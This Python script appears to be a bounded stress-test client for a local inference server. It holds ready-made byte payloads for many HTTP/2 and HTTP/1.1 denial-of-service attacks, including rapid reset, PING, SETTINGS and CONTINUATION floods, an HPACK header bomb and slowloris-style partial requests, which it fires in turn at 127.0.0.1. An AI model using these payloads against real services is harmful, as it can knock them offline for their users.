"""A client that attacks: one connection after another, in ways that take turns. As a program it
goes on until its standard input says something or the seconds are over, at a bounded pace.

    python attack.py PORT SECONDS
"""
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PAUSE = 0.005  # between connections: a bounded load, whatever the machine


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


GET = b"\x82\x86\x84\x41\x01h"
BEGIN = PREFACE + frame(4, 0, 0)
INFER = b"POST /v2/models/plain/infer HTTP/1.1\r\nHost: h\r\n"
ATTACKS = {
    "rapid reset": BEGIN + b"".join(frame(1, 5, i, GET) + frame(3, 0, i, b"\0\0\0\x08")
                                    for i in range(1, 2001, 2)),
    "pings": BEGIN + frame(6, 0, 0, bytes(8)) * 3000,
    "settings": BEGIN + frame(4, 0, 0, struct.pack(">HI", 4, 0)) * 1000,
    "priorities": BEGIN + b"".join(frame(2, 0, i, struct.pack(">IB", i ^ 2, i & 255))
                                   for i in range(1, 4001, 2)),
    "continuations": BEGIN + frame(1, 0, 1, b"\x82") + frame(9, 0, 1, b"\0\1a\1b" * 50) * 100,
    "header bomb": BEGIN + frame(1, 5, 1, GET + b"\x40\x01a\x7f\x21" + b"v" * 160 + b"\xbe" * 9000),
    "shut windows": BEGIN + frame(4, 0, 0, struct.pack(">HI", 4, 0)) +
                    b"".join(frame(1, 5, i, b"\x82\x86\x04\x0d/openapi.json\x41\x01h")
                             for i in range(1, 200, 2)),
    "window overflow": BEGIN + frame(1, 5, 1, GET) + frame(8, 0, 1, b"\x7f\xff\xff\xff") * 2,
    "half a head": b"GET / HTTP/1.1\r\nHost: h\r\nX: ",
    "half a body": INFER + b"Content-Length: 100000\r\n\r\n{",
    "many headers": b"GET / HTTP/1.1\r\nHost: h\r\n" + b"X: y\r\n" * 2000 + b"\r\n",
    "tiny chunks": INFER + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n{\r\n" * 3000,
    "pipelined": b"GET /v2 HTTP/1.1\r\nHost: h\r\n\r\n" * 300,
    "garbage": bytes(range(256)) * 40,
}


def attack(port, sent):
    """Sends it and reads a little; returns the connection, which stays open."""
    one = socket.create_connection(("127.0.0.1", port), 5)
    one.settimeout(0.02)
    try:
        one.sendall(sent)
        one.recv(65536)
    except OSError:
        pass
    return one


def main(port, seconds):
    end, kept, n = time.monotonic() + seconds, [], 0
    while time.monotonic() < end and not select.select([sys.stdin], [], [], 0)[0]:
        for sent in ATTACKS.values():
            try:
                kept.append(attack(port, sent))
                n += 1
            except OSError:
                pass
            if len(kept) > 200:
                kept.pop(0).close()
            time.sleep(PAUSE)
    print(n)


if __name__ == "__main__":
    main(int(sys.argv[1]), float(sys.argv[2]))
